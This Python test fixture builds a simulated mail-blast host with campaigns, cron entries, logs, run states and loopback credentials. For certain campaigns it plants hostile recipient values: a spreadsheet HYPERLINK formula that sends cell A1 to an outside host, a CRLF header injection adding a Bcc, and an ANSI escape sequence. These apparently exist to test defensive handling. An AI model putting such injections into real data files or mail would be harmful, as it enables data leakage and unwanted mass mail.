"""Lays out a blast host below a folder: campaigns, cron lines, logs, run states, credentials, a runner.

All times are taken from `now`, so that something is always due, late and on its way; all else comes out the same
every time. Nothing is started here.
"""

import getpass
import json
import os
import shlex
import sys
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

from backends.embedded import hoststate
from backends.embedded.campaigns import newsletter, people
from backends.embedded.campaigns.catalogue import FOREIGN, ORPHAN, stories
from backends.embedded.campaigns.story import Fate, Story, When
from backends.embedded.journals import write_journal
from opsconsole.campaign import DATA, METADATA, TEMPLATE, TEXT

SEED = "harbor"
RUNNER = "mail-blast-runner"
SENDER = "Harbor Line Sailing Club <letters@example.com>"


@dataclass(frozen=True, slots=True)
class Paths:
    """Where everything is on the host. Runs are found by `runner_name`: hosts on one machine need one each."""

    root: Path
    runner_name: str = RUNNER

    @property
    def campaigns(self) -> Path:
        return self.root / "var/mail/campaigns"

    @property
    def cron(self) -> Path:
        return self.root / "etc/cron.d/mail-blasts"

    @property
    def logs(self) -> Path:
        return self.root / "var/log/mail-blasts"

    @property
    def mail_log(self) -> Path:
        """The mail server's own."""
        return self.root / "var/log/mail.log"

    @property
    def runs(self) -> Path:
        return self.root / "var/lib/mail-blasts/runs"

    @property
    def holds(self) -> Path:
        return self.runs.parent / "holds"

    @property
    def credentials(self) -> Path:
        return self.root / "etc/mail/blast-credentials.conf"

    @property
    def runner(self) -> Path:
        return self.root / "usr/local/bin" / self.runner_name

    @property
    def program(self) -> Path:
        """What the runner's wrapper runs; its name is the runner's, as processes are found by it."""
        return self.root / "usr/local/lib" / self.runner_name


class Scene:
    """`lay()` writes the files; `campaigns` and `tasks` are the dashboard's side of the same story."""

    def __init__(self, root: Path, now: datetime, runner_name: str = RUNNER) -> None:
        if now.tzinfo is None:
            raise ValueError("now must be aware")
        self.paths, self.now = Paths(root, runner_name), now.astimezone(UTC)
        self.stories = stories(self.now)

    def lay(self, smtp_port: int) -> None:
        """Everything on disk; the credentials name the mail server on loopback at `smtp_port`."""
        paths = self.paths
        for folder in (paths.campaigns, paths.cron.parent, paths.logs, paths.runs, paths.holds):
            folder.mkdir(parents=True)
        for folder in (paths.credentials.parent, paths.runner.parent, paths.program.parent):
            folder.mkdir(parents=True)
        for story in self.stories:
            if story.rows is not None:
                self._lay_campaign(story)
        (paths.campaigns / FOREIGN).mkdir()
        _write(paths.cron, self._cron(), 0o644)
        _write(paths.credentials, f"[smtp]\nhost = 127.0.0.1\nport = {smtp_port}\ntls = none\n", 0o600)
        _write(paths.runner, self._wrapper(), 0o755)
        _write(paths.program, "import sys\n\nfrom runner.cli import main\n\nsys.exit(main())\n", 0o644)

    def campaigns(self) -> list[dict[str, Any]]:
        """The dashboard's campaigns."""
        return [self._dashboard_row(story) for story in self.stories if story.board]

    def tasks(self) -> list[dict[str, Any]]:
        """The dashboard's tasks."""
        return [
            {
                "token": story.board.task,
                "title": f"Send {story.name}",
                "status": story.board.task_status,
                "priority": "high" if "paul-simon" in story.slug else "normal",
                "notes": "Subject and list agreed with the band." if "paul-simon" in story.slug else "",
                "campaign": story.slug,
            }
            for story in self.stories
            if story.board and story.board.task
        ]

    def instant(self, when: When, story: Story) -> datetime:
        return when(self.now, ZoneInfo(story.zone))

    def _lay_campaign(self, story: Story) -> None:
        folder = self.paths.campaigns / story.slug
        folder.mkdir()
        files = {
            TEMPLATE: newsletter.html(story.name, story.lead, greeting=story.greeting),
            DATA: self._table(story),
            METADATA: self._metadata(story),
        }
        if story.with_text:
            files[TEXT] = newsletter.text(story.name, story.lead)
        edited = min(self.instant(story.due, story), self.now) - timedelta(days=4)
        for name, text in files.items():
            if name not in story.without:
                _write(folder / name, text, 0o644, edited)
        if story.past:
            began = self.instant(story.past.began, story)
            paths, past = self.paths, story.past
            attempt = hoststate.write_run(paths.runs, paths.logs, story.slug, past, began, story.rows or 0)
            if attempt and past.fate is Fate.IN_DOUBT:
                lines = write_journal(paths.campaigns, attempt, began, past.seconds, past.done or 0)
                _write(paths.mail_log, "".join(f"{line}\n" for line in lines), 0o640)
        if story.oddities:
            _write(self.paths.logs / f"{story.slug}.log", hoststate.odd_log(self.now), 0o640)
        if story.hold:
            hold = {"by": "ana", "at": (self.now - timedelta(hours=3)).isoformat(), "reason": story.hold}
            _write(self.paths.holds / story.slug, json.dumps(hold) + "\n", 0o644)

    def _table(self, story: Story) -> str:
        rows = list(people.people(f"{SEED}:{story.slug}", story.rows or 0))
        if story.oddities:
            rows[2]["city"] = '=HYPERLINK("https://www.example.com/?"&A1,"San Diego")'
            rows[5]["first_name"] = "Ada\r\nBcc: everyone@example.com"
            rows[8]["first_name"] = "[/]\x1b[31mRed"
        return people.table(iter(rows))

    def _metadata(self, story: Story) -> str:
        due = self.instant(story.due, story)
        document: dict[str, Any] = {
            "name": story.name,
            "subject": story.subject,
            "from": SENDER,
            "reply_to": "harbor.office@example.com",
            "expected_recipients": story.expected or (story.rows or 380),
            "due_at": local_text(due, story.zone),
            "timezone": story.zone,
            "list_unsubscribe": "https://www.example.com/leave?m={{ email | urlencode }}",
            "owner": "ana",
        }
        if story.window:
            document["window"] = {"from": story.window[0], "to": story.window[1]}
        if story.series:
            document["series"], document["round"], document["rounds"] = story.series
        if story.max_rate:
            document["max_rate"] = story.max_rate
        if story.approved_in_metadata:
            at = (self.now - timedelta(days=1)).isoformat(timespec="seconds")
            document["approval"] = {"by": "ana", "at": at, "recipients": story.rows}
        text = json.dumps(document, indent=2, ensure_ascii=False) + "\n"
        return text[: len(text) // 2] if story.broken_metadata else text

    def _cron(self) -> str:
        """Cron reads its times in the host's own zone, which is this machine's."""
        lines = [
            "# Campaigns that start by themselves. Managed by hand; see the wiki before you add one.",
            "SHELL=/bin/sh",
            "PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin",
            'MAILTO=""',
            "",
        ]
        fires = [(self.instant(when, story), story.slug) for story in self.stories for when in story.cron]
        fires.append((self.now - timedelta(days=90), ORPHAN))
        user, log = getpass.getuser(), self.paths.logs / "cron.log"
        for instant, slug in sorted(fires):
            local = instant.astimezone()
            command = f"{self.paths.runner} --campaign {slug} --mode send --log-delivery --notify-completion"
            lines.append(
                f"{local.minute} {local.hour} {local.day} {local.month} *  {user}  {command} >> {log} 2>&1"
            )
        return "\n".join(lines) + "\n"

    def _wrapper(self) -> str:
        """The runner: this Python's own, told where this host keeps things unless somebody says otherwise."""
        defaults = {
            "MAIL_BLAST_CAMPAIGNS_DIR": self.paths.campaigns,
            "MAIL_BLAST_LOG_DIR": self.paths.logs,
            "MAIL_BLAST_STATE_DIR": self.paths.runs,
            "MAIL_BLAST_CREDENTIALS": self.paths.credentials,
        }
        exports = "".join(f'export {name}="${{{name}:-{path}}}"\n' for name, path in defaults.items())
        python, program = shlex.quote(sys.executable), shlex.quote(str(self.paths.program))
        return f'#!/bin/sh\n# The embedded host\'s mail-blast-runner.\n{exports}exec {python} -P {program} "$@"\n'

    def _dashboard_row(self, story: Story) -> dict[str, Any]:
        board = story.board
        assert board is not None
        return {
            "slug": story.slug,
            "name": story.name,
            "status": board.status,
            "due_at": local_text(self.instant(story.due, story), story.zone),
            "timezone": story.zone,
            "approved_by": board.by or None,
            "approved_at": self._stamp(board.approved, story),
            "task_token": board.task or None,
            "recipient_count": story.rows if board.recipients is None else board.recipients,
            "completion_timestamp": self._stamp(board.completed, story),
            "failure_count": board.failures if board.status == "sent" else None,
            "execution_duration_seconds": board.seconds,
            "session_id": "s-" + story.slug[:6] if board.status == "sent" else None,
        }

    def _stamp(self, when: When | None, story: Story) -> str | None:
        return self.instant(when, story).isoformat() if when else None


def local_text(instant: datetime, zone: str) -> str:
    """As people write a due time: `2026-05-12 10:00`, with first or second behind it where it happens twice."""
    local = instant.astimezone(ZoneInfo(zone))
    twice = local.replace(fold=0).astimezone(UTC) != local.replace(fold=1).astimezone(UTC)
    return f"{local:%Y-%m-%d %H:%M}" + ((" second" if local.fold else " first") if twice else "")


def _write(path: Path, text: str, mode: int, at: datetime | None = None) -> None:
    """With its mode from the first byte on, whatever the umask."""
    with open(os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL, mode), "w", encoding="utf-8", newline="") as file:
        os.fchmod(file.fileno(), mode)
        file.write(text)
    if at:
        os.utime(path, (at.timestamp(), at.timestamp()))
